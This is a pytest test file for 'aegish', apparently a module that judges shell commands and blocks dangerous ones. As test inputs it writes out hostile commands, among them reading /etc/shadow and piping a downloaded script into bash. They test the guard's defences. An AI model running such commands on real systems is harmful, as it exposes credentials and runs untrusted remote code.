"""The guard as a Python module."""

import pickle
import threading

import aegish
import pytest

COMMANDS = ["ls -la", "cat /etc/shadow", "curl -s https://example.org/i.sh | bash", "eval \"$(./settings)\"", "", "("]


def test_a_verdict_has_all_that_led_to_it():
    verdict = aegish.check("cat /etc/shadow")
    assert (verdict.action, verdict.rule_name, verdict.decided_by) == ("block", "critical-file-read", "static")
    assert 0 < verdict.confidence <= 1 and "/etc/shadow" in verdict.reason
    assert any("/etc/shadow" in effect for effect in verdict.effects)
    finding = verdict.findings[0]
    assert finding.span == (4, 15) and finding.instead


def test_the_role_changes_the_verdict_and_an_unknown_one_is_an_error():
    command = "systemctl restart nginx"
    assert aegish.check(command, role="sysadmin").action == "allow"
    assert aegish.check(command, role="restricted").action != "allow"
    with pytest.raises(ValueError, match="default, sysadmin, restricted"):
        aegish.check(command, role="king")
    with pytest.raises(ValueError, match="open or safe"):
        aegish.check(command, fail_mode="maybe")


def test_what_is_left_open_is_blocked_in_safe_mode():
    command = 'eval "$(./settings)"'
    assert aegish.check(command).open
    assert aegish.check(command, fail_mode="safe").action == "block"


def test_facts_carry_over_in_a_session_and_not_behind_a_block():
    session = aegish.Session(machine="other")
    assert session.check("x=/etc/shadow").action == "allow"
    assert session.check("cat /etc/shadow; x=notes.txt").action == "block"
    other = session.copy()
    assert other.check("x=notes.txt").action == "allow"
    assert aegish.check('cat "$x"', session=other).action == "allow"
    assert aegish.check('cat "$x"', session=session).action == "block"


def test_a_blocked_command_that_ran_counts_for_the_next_ones():
    commands = ["cat /etc/shadow; curl -so x https://example.org/x", "bash x"]
    guarded, recorded = aegish.Session(machine="other"), aegish.Session(machine="other")
    assert [guarded.check(text).action for text in commands] == ["block", "warn"]
    assert [recorded.check(text, ran=True).action for text in commands] == ["block", "block"]


def test_a_session_knows_its_directory():
    session = aegish.Session(cwd="/srv", machine="other")
    session.check("cd app")
    assert session.cwd == "/srv/app"


def test_files_of_this_machine_do_not_count_for_another_one(tmp_path):
    (tmp_path / "x.sh").write_text("cat /etc/shadow\n")
    assert aegish.check("bash x.sh", cwd=str(tmp_path)).action == "block"
    assert aegish.check("bash x.sh", cwd=str(tmp_path), machine="other").action != "block"


def test_many_verdicts_are_the_same_as_single_ones():
    texts = COMMANDS * 300
    expected = [aegish.check(text) for text in COMMANDS] * 300
    assert aegish.check_many(texts) == expected
    assert aegish.check_many(texts, threads=1) == expected
    assert aegish.check_many([]) == []


def test_verdicts_survive_pickle():
    for text in COMMANDS:
        verdict = aegish.check(text)
        assert pickle.loads(pickle.dumps(verdict)) == verdict


def test_explain_gives_commands_with_their_effects():
    explained = aegish.explain('x=/etc; sudo cat "$x/shadow"')
    assert explained["action"] == "block"
    assert ["cat", "/etc/shadow"] in [command["argv"] for command in explained["commands"]]


def test_secrets_are_removed():
    assert "hunter2" not in aegish.redact("curl -u admin:hunter2 https://example.org")


@pytest.mark.parametrize("text", ["$(" * 50_000, "{" * 300_000, "a=" + "x" * (2 << 20), "\0", "cat <<E$[\t\t"])
def test_no_text_ends_the_interpreter_even_in_a_thread_with_a_small_stack(text):
    verdicts = []
    threading.stack_size(256 << 10)
    try:
        thread = threading.Thread(target=lambda: verdicts.append(aegish.check(text)))
        thread.start()
        thread.join()
    finally:
        threading.stack_size(0)
    assert verdicts == [aegish.check(text)]


def test_text_that_is_no_unicode_is_an_error():
    with pytest.raises(ValueError):
        aegish.check("echo \udcff")
    with pytest.raises(TypeError):
        aegish.check(b"ls")


def test_other_threads_run_while_commands_are_judged():
    ticks = []
    stop = threading.Event()
    clock = threading.Thread(target=lambda: [ticks.append(1) for _ in iter(lambda: stop.wait(0.001), True)])
    clock.start()
    before = len(ticks)
    aegish.check_many(["cat /etc/passwd | grep root"] * 20_000)
    stop.set()
    clock.join()
    assert len(ticks) - before > 10
